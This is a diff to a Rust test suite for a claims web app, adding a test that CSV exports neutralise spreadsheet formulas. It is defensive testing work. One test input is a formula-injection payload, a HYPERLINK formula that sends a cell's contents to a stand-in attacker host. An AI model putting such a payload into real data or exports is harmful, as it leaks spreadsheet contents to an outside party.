@@ -15,7 +15,8 @@ crate::trials!(web_lists {
         auditor_searches_the_trail_across_cases,
         filters_and_exports_refuse_bad_input_by_field,
         every_list_exports_only_to_its_roles,
-        queue_facility_and_team_lists_export_what_the_pages_show
+        queue_facility_and_team_lists_export_what_the_pages_show,
+        exports_never_carry_a_live_formula
     ],
 });
 
@@ -433,4 +434,33 @@ async fn queue_facility_and_team_lists_export_what_the_pages_show(app: TestApp) 
     assert_eq!(row["sla"], "breached");
     let reviewers = csv_rows(&app, &supervisor, "/team/reviewers.csv").await;
     assert!(reviewers.iter().any(|r| r["reviewer"] == "刘洋（初审）"));
+}
+
+/// Safe exports (issue 23, item 3): an invoice number that is a spreadsheet formula is
+/// refused at intake, and one already in the database (imported before the rule, or put
+/// there by hand) leaves every export as literal text, never a live formula.
+async fn exports_never_carry_a_live_formula(app: TestApp) {
+    let resident = app.login("resident").await;
+    let mut body = crate::common::trauma_claim();
+    body["invoice_numbers"] = json!(["=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"]);
+    let (status, res) = app.post(&resident, "/api/claims", body).await;
+    assert_eq!(status, 422, "{res}");
+    assert_eq!(res["fields"][0]["field"], "invoice_numbers[0]", "{res}");
+
+    app.raw_sql(r#"UPDATE claims SET invoice_numbers = '["=HYPERLINK(1)"]' WHERE invoice_numbers = '["DEMO-trauma-0003"]'"#)
+        .unwrap();
+    let auditor = app.login("auditor").await;
+    let rows = csv_rows(&app, &auditor, "/audit/claims.csv").await;
+    assert!(
+        rows.iter().any(|r| r["invoices"] == "'=HYPERLINK(1)"),
+        "the planted formula is exported as text"
+    );
+    for row in &rows {
+        for (name, cell) in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{name}: {cell:?} would run as a formula"
+            );
+        }
+    }
 }
